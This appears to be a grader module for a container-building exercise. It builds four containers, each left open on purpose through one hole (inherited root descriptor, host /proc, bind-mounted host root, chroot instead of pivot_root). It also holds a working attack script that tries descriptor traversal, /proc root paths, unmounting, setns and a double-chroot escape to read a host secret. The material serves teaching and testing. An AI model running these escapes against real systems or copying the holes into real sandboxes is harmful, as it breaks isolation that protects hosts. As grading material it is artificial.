"""What the grader runs in its container: four containers, each open in one way, and an attack.

The container of the grader is the host here. All that is at stake in it is a file of random words,
which the check makes.
"""

from __future__ import annotations

from pathlib import Path

# The system calls of the starter's box.py.
_CALLS = (Path(__file__).parent / "starter/box.py").read_text(encoding="utf-8")
HOLES = ("descriptor", "process", "mount", "chroot")

# A container that is closed but for one hole: python3 -I open.py HOLE PROGRAM [ARGUMENT]...
OPEN = (
    _CALLS.partition("\ndef main(")[0]
    + """
def main(hole, program, *arguments):
    python = os.path.realpath(sys.executable)
    program = os.path.abspath(program)
    flags = CLONE_NEWUTS | CLONE_NEWIPC | CLONE_NEWNET
    if hole == "descriptor":
        os.set_inheritable(os.open("/", os.O_RDONLY), True)
    if hole != "process":
        flags |= CLONE_NEWPID
    unshare(flags)
    pid = os.fork()
    if pid > 0:
        _, status = os.waitpid(pid, 0)
        sys.exit(os.waitstatus_to_exitcode(status))
    unshare(CLONE_NEWNS)  # of the child alone: pivot_root changes the root of all in there
    mount(None, "/", None, MS_REC | MS_PRIVATE)
    os.makedirs("root", exist_ok=True)
    mount("tmpfs", "root", "tmpfs", MS_NOSUID | MS_NODEV)
    os.chdir("root")
    fill_root(program)
    os.mkdir("proc")
    if hole == "process":
        mount("/proc", "proc", None, MS_BIND | MS_REC)
    else:
        mount("proc", "proc", "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC)
    if hole == "mount":
        os.mkdir("host")
        mount("/", "host", None, MS_BIND | MS_REC)
        mount("tmpfs", "host", "tmpfs", 0)
    if hole == "chroot":
        os.chroot(".")
    else:
        os.mkdir("old")
        pivot_root(".", "old")
        os.chdir("/")
        unmount("/old", MNT_DETACH)
        os.rmdir("/old")
    if hole == "descriptor":
        with open("/proc/sys/kernel/cap_last_cap") as file:
            last = int(file.read())
        for capability in range(last + 1):
            prctl(PR_CAPBSET_DROP, capability)
    os.execv(python, [python, "/program.py", *arguments])


main(*sys.argv[1:])
"""
)

# Runs in a student's container; the first argument is the secret's path on the host. The program
# calls itself READY and waits for a number. Then it tries all ways out, keeps open what it could,
# calls itself ATTACKED, waits for another, and answers with the product of both.
READY, ATTACKED = "ready", "attacked"
ATTACK = f"""
import ctypes, os, sys
path, _ = sys.argv[1:]
libc = ctypes.CDLL(None)
libc.umount2.argtypes = ctypes.c_char_p, ctypes.c_int
libc.prctl(15, b"{READY}")
first = sys.stdin.readline()
def take(name, **options):
    try:
        os.open(name, os.O_RDONLY | os.O_NONBLOCK, **options)
    except OSError:
        pass
def names(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []
take(path)
for fd in range(3, 64):
    take(path[1:], dir_fd=fd)
    take("../" * 8 + path[1:], dir_fd=fd)
processes = [name for name in names("/proc") if name.isdigit()]
for name in processes:
    take(f"/proc/{{name}}/root{{path}}")
    take(f"/proc/{{name}}/cwd/{{os.path.basename(path)}}")
for name in names("/"):
    if name not in ("usr", "proc"):
        libc.umount2(os.fsencode("/" + name), 2)
        take(f"/{{name}}{{path}}")
for name in processes:
    try:
        fd = os.open(f"/proc/{{name}}/ns/mnt", os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(fd, 0) == 0:
        take(path)
    os.close(fd)
for step in range(2):
    try:
        os.chroot("/usr")
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        break
    take(path)
libc.prctl(15, b"{ATTACKED}")
second = sys.stdin.readline()
print(int(first, 16) * int(second, 16), flush=True)
"""
